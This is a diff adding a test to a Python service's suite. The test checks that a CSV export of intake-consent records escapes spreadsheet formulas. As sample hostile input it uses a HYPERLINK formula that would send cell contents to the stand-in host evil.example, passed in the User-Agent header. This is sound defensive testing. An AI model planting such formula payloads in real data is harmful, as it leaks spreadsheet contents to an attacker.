@@ -31,6 +31,7 @@ from tests.conftest import (
     thread,
 )
 from tests.signing import slack_headers
+from tests.test_intake import intake_path, open_form
 
 OTHER = "+12125550142"
 ROOT = Path(__file__).resolve().parent.parent
@@ -415,3 +416,23 @@ async def test_already_opted_out_caller_is_not_flagged_again(harness: Harness) -
     await harness.caller_text("seriously stop texting me")
     await harness.drained()
     assert [p for p in harness.slack.posts if p.get("blocks") and p.get("thread_ts")] == []
+
+
+async def test_consent_export_writes_what_a_spreadsheet_would_run_as_text(
+    harness: Harness,
+) -> None:
+    """The user agent and forwarded-for kept with an intake consent are the visitor's to write."""
+    path = await intake_path(harness)
+    form = await open_form(harness, path)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    response = await harness.client.post(
+        path,
+        data={**form, "need": "Outlet", "consent": "yes"},
+        headers={"User-Agent": evil, "X-Forwarded-For": "@SUM(1+1)"},
+    )
+    assert response.status == 200
+    out, _ = await run_export(harness, "--format", "csv")
+    (row,) = [r for r in csv.DictReader(io.StringIO(out)) if r["event"] == "explicit_consent"]
+    assert row["user_agent"] == "'" + evil
+    assert row["forwarded_for"] == "'@SUM(1+1)"
+    assert row["phone"] == CALLER  # E.164 stays as it is
